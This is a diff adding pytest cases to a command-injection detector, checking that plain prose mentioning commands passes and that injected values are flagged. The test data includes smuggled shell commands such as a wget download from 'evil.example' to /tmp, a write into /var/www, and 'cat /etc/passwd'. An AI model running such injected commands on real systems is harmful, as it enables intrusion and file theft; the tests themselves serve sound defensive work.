@@ -143,3 +143,32 @@ def test_benign_text_false_positives_are_rare() -> None:
     lines = benign_text(2000, seed=11)
     flagged = [s for s in lines if DET.inspect(js(s)).threats]
     assert len(flagged) <= 0.02 * len(lines), flagged[:10]
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "The ls command is handy; ls -la is what I use",
+        "The curl command is handy; curl -I https://example.com is what I use",
+        "Good night all; echo chamber",
+        "Billing question | echo chamber | thanks",
+        "Status: open; echo chamber",
+    ],
+)
+def test_a_command_in_an_english_clause_is_prose(value: str) -> None:
+    assert DET.inspect(js(value)).threats == []
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "; ls -la /tmp",
+        "127.0.0.1; echo hello > /var/www/x",
+        "|echo pwned",
+        "Good night all; wget http://evil.example/x.sh -O /tmp/x",
+        "Status: open; echo pwned > /tmp/x",
+        "The ls command is handy; ls -la is what I use; cat /etc/passwd",
+    ],
+)
+def test_a_command_line_after_english_is_still_found(value: str) -> None:
+    assert "Command.Injection" in {t.name for t in DET.inspect(js(value)).threats}
